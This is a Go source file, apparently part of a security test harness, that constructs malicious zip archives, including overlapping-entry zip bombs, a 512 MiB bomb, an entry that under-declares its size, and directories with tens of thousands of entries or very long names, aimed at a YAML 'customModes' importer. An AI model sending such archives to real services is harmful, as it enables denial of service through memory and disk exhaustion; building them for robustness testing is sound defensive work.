package attack

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"strings"
)

// archives returns malicious zip files, each of at most size bytes.
func archives(size int) []shape {
	list := []shape{
		overlappingArchive("overlapping entries of nested lists", strings.Repeat("- ", 350<<10), 18),
		overlappingArchive("overlapping entries of open brackets", strings.Repeat("[", 700<<10), 18),
		overlappingArchive("overlapping entries of lines", strings.Repeat("- a\n", 175<<10), 18),
		overlappingArchive("2,000 overlapping entries", strings.Repeat("- a\n", 2<<10), 2000),
		zipped("a bomb of 512 MiB", map[string]func() []byte{"modes.yaml": func() []byte { return bytes.Repeat([]byte(" "), 512<<20) }}),
		zipped("20 files of 1 MiB of brackets", numberedFiles(20, func(int) []byte { return bytes.Repeat([]byte("["), 1<<20) })),
		zipped("16 MiB of tiny modes", numberedFiles(16, func(i int) []byte {
			return []byte(count(1<<20, "customModes:\n", func(j int) string {
				return fmt.Sprintf("- {slug: m%d-%d, name: N, roleDefinition: r, groups: [read]}\n", i, j)
			}, ""))
		})),
		wrongSizeArchive("an entry that hides its size", bytes.Repeat([]byte(" "), 256<<20)),
		{"60,000 empty entries", mediaZip, directory(60_000, 8)},
		{"names of 60 KB", mediaZip, directory(size/60_100, 60_000)},
		{"an unfinished directory", mediaZip, bytes.Repeat([]byte("PK\x01\x02"), size/4)},
	}
	return list
}

func numberedFiles(n int, content func(i int) []byte) map[string]func() []byte {
	files := map[string]func() []byte{}
	for i := range n {
		files[fmt.Sprintf("f%d.yaml", i)] = func() []byte { return content(i) }
	}
	return files
}

func zipped(name string, files map[string]func() []byte) shape {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for file, content := range files {
		f, err := z.Create(file)
		if err == nil {
			_, err = f.Write(content())
		}
		if err != nil {
			panic(err) // a bytes.Buffer never fails
		}
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	return shape{name, mediaZip, b.Bytes()}
}

// overlappingArchive returns an archive with one deflated content to which all n directory
// entries point.
func overlappingArchive(name, content string, n int) shape {
	packed, sum := deflate([]byte(content)), crc32.ChecksumIEEE([]byte(content))
	return raw(name, packed, sum, len(content), n)
}

// wrongSizeArchive returns an archive whose entry declares a size of 10 bytes, whatever its
// content.
func wrongSizeArchive(name string, content []byte) shape {
	return raw(name, deflate(content), crc32.ChecksumIEEE(content), 10, 1)
}

func raw(name string, packed []byte, sum uint32, size, n int) shape {
	var b bytes.Buffer
	local := header("PK\x03\x04", sum, len(packed), size, "0.yaml")
	b.Write(local)
	b.Write(packed)
	start := b.Len()
	for i := range n {
		b.Write(header("PK\x01\x02", sum, len(packed), size, fmt.Sprintf("%d.yaml", i)))
	}
	b.Write(end(n, b.Len()-start, start))
	return shape{name, mediaZip, b.Bytes()}
}

// directory returns an archive that is all directory: n entries without content, with names
// of nameLength bytes.
func directory(n, nameLength int) []byte {
	var b bytes.Buffer
	b.Write(header("PK\x03\x04", 0, 0, 0, "0.yaml"))
	start := b.Len()
	for i := range n {
		b.Write(header("PK\x01\x02", 0, 0, 0, fmt.Sprintf("%0*d.yaml", nameLength-5, i)))
	}
	b.Write(end(n, b.Len()-start, start))
	return b.Bytes()
}

// header returns an entry's header, local or in the directory (APPNOTE.TXT, 4.3.7 and
// 4.3.12). The local header is at offset 0.
func header(mark string, sum uint32, packed, size int, name string) []byte {
	put := binary.LittleEndian
	b := []byte(mark)
	if mark == "PK\x01\x02" {
		b = put.AppendUint16(b, 20)
	}
	b = put.AppendUint16(b, 20)
	b = put.AppendUint16(b, 0)
	b = put.AppendUint16(b, 8) // deflate
	b = put.AppendUint32(b, 0)
	b = put.AppendUint32(b, sum)
	b = put.AppendUint32(b, uint32(packed))
	b = put.AppendUint32(b, uint32(size))
	b = put.AppendUint16(b, uint16(len(name)))
	b = put.AppendUint16(b, 0)
	if mark == "PK\x01\x02" {
		b = append(b, make([]byte, 14)...) // comment, disk, attributes, offset
	}
	return append(b, name...)
}

func end(n, size, start int) []byte {
	put := binary.LittleEndian
	b := append([]byte("PK\x05\x06"), 0, 0, 0, 0)
	b = put.AppendUint16(b, uint16(n))
	b = put.AppendUint16(b, uint16(n))
	b = put.AppendUint32(b, uint32(size))
	b = put.AppendUint32(b, uint32(start))
	return put.AppendUint16(b, 0)
}

func deflate(content []byte) []byte {
	var b bytes.Buffer
	w, err := flate.NewWriter(&b, flate.BestCompression)
	if err == nil {
		_, err = w.Write(content)
	}
	if err == nil {
		err = w.Close()
	}
	if err != nil {
		panic(err) // a bytes.Buffer never fails
	}
	return b.Bytes()
}
